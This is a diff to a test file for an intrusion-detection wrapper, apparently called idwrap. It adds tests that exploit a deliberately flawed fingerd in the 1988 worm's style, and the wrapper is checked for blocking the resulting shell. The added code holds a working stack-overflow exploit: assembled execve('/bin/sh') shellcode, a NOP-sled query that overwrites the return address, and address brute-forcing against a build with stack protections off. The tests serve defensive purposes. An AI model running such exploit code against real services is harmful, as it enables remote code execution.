@@ -11,8 +11,10 @@
  * /bin/sh -c 'echo${IFS}pwned>MARKER' instead of finger: the shell creates
  * the marker file. This is the 1988 worm's bug (gets() into fingerd's
  * 512-byte buffer) and its goal (a shell run by the daemon), reached by
- * overwriting the adjacent exec path rather than the return address (the
- * worm's VAX shellcode): see docs/wrappers.md for what is and is not shown.
+ * overwriting the adjacent exec path. The second half of the file exploits
+ * the same bug the worm's way, overwriting the return address to run code
+ * sent in the query, on a copy built with an executable stack and run
+ * without ASLR (see there and docs/wrappers.md).
  *
  * Unwrapped, the shell runs (the control). Under a policy binding fingerd to
  * flawed_fingerd (its port, its finger program), the execve of /bin/sh is
@@ -23,7 +25,7 @@
  */
 import { deepStrictEqual as assertEquals, ok as assert } from "node:assert/strict";
 import type { HostEvent } from "../../host/events.ts";
-import { exists, prog, reports } from "../helpers.ts";
+import { exists, prog, reports, ROOT } from "../helpers.ts";
 import { freePort } from "../loopback.ts";
 import { alertTexts, exchange, faultTexts, LoopbackServer, publicTempDir } from "./loopback_server.ts";
 
@@ -150,6 +152,167 @@ for (const response of ["alert", "deny"] as const) {
     assertEquals(faultTexts(events), []);
     assertEquals(attacked, "fingerd: cannot run /bin/sh: Permission denied\r\n");
     assert(!(await appears(marker)), "the shell ran under the wrapper");
+    assert(normal.startsWith("Login: root\t"), "the daemon still answers");
+    await Deno.remove(s.dir, { recursive: true });
+  });
+}
+
+// ---------------------------------------------------------------------------------------------- the worm's way
+//
+// The same bug exploited as the 1988 worm did: the query overruns line[512], the rest of struct query and
+// answer()'s frame up to its saved return address, which it replaces with the address of machine code sent in the
+// query itself (x86-64 here, VAX then): when answer() returns, the code runs execve("/bin/sh", ["/bin/sh", "-c",
+// COMMAND]). The program path is overwritten with what it held (the attacker keeps finger in place), so finger still
+// answers first.
+//
+// That needs the 1988 machine: an executable stack (-z execstack), no stack protector and no ASLR, so this copy of
+// flawed_fingerd is built here with -O0 -fno-stack-protector -z execstack and started under `setarch -R`. The
+// buffer's address is not known to the attacker: it is brute-forced, one connection per guess, each guess covering
+// the length of a NOP sled (a wrong guess crashes only that connection's child). The offset of the return address
+// is read from the binary (objdump), as an attacker reads their copy of the daemon.
+
+const WORM_DIR = await Deno.makeTempDir({ prefix: "idwrap-fingerd-worm-" });
+await Deno.chmod(WORM_DIR, 0o755);
+globalThis.addEventListener("unload", () => Deno.removeSync(WORM_DIR, { recursive: true }));
+const WORM_FINGERD = `${WORM_DIR}/flawed_fingerd`; // the name the policy binds
+
+/** Runs a build tool; its stdout. */
+async function tool(cmd: string, args: string[]): Promise<string> {
+  const r = await new Deno.Command(cmd, { args }).output();
+  const dec = new TextDecoder();
+  if (!r.success) throw new Error(`${cmd} ${args.join(" ")}:\n${dec.decode(r.stderr)}`);
+  return dec.decode(r.stdout);
+}
+
+await tool(Deno.env.get("CC") ?? "cc", [
+  "-O0",
+  "-fno-stack-protector",
+  "-z",
+  "execstack",
+  "-o",
+  WORM_FINGERD,
+  `${ROOT}tests/progs/flawed_fingerd.c`,
+]);
+
+/** The distance from q.line to answer()'s saved return address: `lea -N(%rbp)` handed to gets(), plus the saved rbp. */
+async function returnOffset(): Promise<number> {
+  const dis = (await tool("objdump", ["-d", "--no-show-raw-insn", WORM_FINGERD])).split("\n");
+  const start = dis.findIndex((l) => l.endsWith("<answer>:"));
+  const call = dis.findIndex((l, i) => i > start && l.includes("<gets@plt>"));
+  const lea = dis.slice(start, call).reverse().find((l) => /lea\s+-0x[0-9a-f]+\(%rbp\),%rax/.test(l));
+  if (start < 0 || call < 0 || !lea) throw new Error("objdump: no gets() call with a frame buffer in answer()");
+  return parseInt(lea.match(/-0x([0-9a-f]+)\(%rbp\)/)![1], 16) + 8;
+}
+
+/** The machine code: execve("/bin/sh", ["/bin/sh", "-c", command, NULL], NULL), then exit(1). */
+async function shellcode(command: string): Promise<Uint8Array> {
+  const asm = `${WORM_DIR}/sc.s`;
+  await Deno.writeTextFile(
+    asm,
+    `.text
+  lea sh(%rip), %rdi
+  xor %edx, %edx
+  push %rdx
+  lea cmd(%rip), %rax
+  push %rax
+  lea dashc(%rip), %rax
+  push %rax
+  push %rdi
+  mov %rsp, %rsi
+  mov $59, %eax
+  syscall
+  mov $60, %eax
+  mov $1, %edi
+  syscall
+sh: .asciz "/bin/sh"
+dashc: .asciz "-c"
+cmd: .asciz ${JSON.stringify(command)}
+`,
+  );
+  await tool(Deno.env.get("CC") ?? "cc", ["-c", "-o", `${WORM_DIR}/sc.o`, asm]);
+  await tool("objcopy", ["-O", "binary", "-j", ".text", `${WORM_DIR}/sc.o`, `${WORM_DIR}/sc.bin`]);
+  return await Deno.readFile(`${WORM_DIR}/sc.bin`);
+}
+
+/** The query for one guess of the sled's address. Returns the query and how many addresses one guess covers. */
+function wormQuery(code: Uint8Array, retOffset: number, guess: bigint): Uint8Array {
+  const q = new Uint8Array(retOffset + 8).fill(0x41);
+  q[0] = 0; // an empty query for the word parser: it writes nothing into the sled
+  const codeAt = LINE - code.length;
+  q.fill(0x90, 1, codeAt); // the NOP sled
+  q.set(code, codeAt);
+  const finger = new TextEncoder().encode(`${FINGER}\0`);
+  assert(finger.length <= 64);
+  q.set(finger, LINE); // struct query's program[64]: kept as it was
+  for (let i = 0; i < 8; i++) q[retOffset + i] = Number((guess >> BigInt(8 * i)) & 0xffn);
+  assert(!q.includes(0x0a), "a newline would end gets()");
+  return new Uint8Array([...q, 0x0a]);
+}
+
+/**
+ * Guesses from the top of the (unrandomised) stack down, one sled length apart, skipping addresses with a newline
+ * byte. Stops at the first guess for which stop() holds, or after `limit` bytes; the number of guesses made.
+ */
+async function bruteForce(
+  port: number,
+  code: Uint8Array,
+  stop: () => Promise<boolean>,
+  limit = 0x10000,
+): Promise<number> {
+  const retOffset = await returnOffset();
+  const sled = BigInt(LINE - code.length - 2);
+  const top = 0x7ffffffff000n;
+  let guesses = 0;
+  for (let guess = top - 16n; guess > top - BigInt(limit); guess -= sled) {
+    let g = guess;
+    while ([0, 1, 2].some((i) => Number((g >> BigInt(8 * i)) & 0xffn) === 0x0a)) g -= 1n;
+    guesses++;
+    await exchange(port, [wormQuery(code, retOffset, g)]);
+    if (await stop()) break;
+  }
+  return guesses;
+}
+
+function startWorm(s: Site, policyFile?: string): Promise<LoopbackServer> {
+  return LoopbackServer.start(["setarch", "x86_64", "-R", WORM_FINGERD, String(s.port), FINGER], s.port, policyFile);
+}
+
+Deno.test("flawed_fingerd unwrapped, the worm's way: a return-address overwrite runs code sent in the query", async () => {
+  const s = await site();
+  const marker = `${s.dir}/pwned`;
+  const code = await shellcode(`echo pwned >${marker}`);
+  const server = await startWorm(s);
+  let guesses: number;
+  try {
+    guesses = await bruteForce(s.port, code, () => exists(marker));
+  } finally {
+    await server.stop();
+  }
+  assert(await exists(marker), `no guess of ${guesses} reached the code`);
+  assertEquals(await Deno.readTextFile(marker), "pwned\n");
+  await Deno.remove(s.dir, { recursive: true });
+});
+
+for (const response of ["alert", "deny"] as const) {
+  Deno.test(`fingerd wrapper (response ${response}), the worm's way: the injected code's execve is denied`, async () => {
+    const s = await site();
+    const marker = `${s.dir}/pwned`;
+    const code = await shellcode(`echo pwned >${marker}`);
+    const server = await startWorm(s, await policy(s, response));
+    let events: HostEvent[];
+    let normal: string;
+    try {
+      // Every guess over the same range (the wrapped daemon's stack may sit a little lower: idwrap's launcher runs it).
+      await bruteForce(s.port, code, () => Promise.resolve(false));
+      normal = await exchange(s.port, ["root\r\n"]);
+    } finally {
+      events = (await server.stop()).events;
+    }
+    assert(!(await exists(marker)), "the injected code's shell ran under the wrapper");
+    const alerts = alertTexts(events);
+    assert(alerts.length >= 1, "no guess reached the injected code");
+    for (const a of alerts) assertEquals(a, ALERT_SHELL);
+    assertEquals(faultTexts(events), []);
     assert(normal.startsWith("Login: root\t"), "the daemon still answers");
     await Deno.remove(s.dir, { recursive: true });
   });
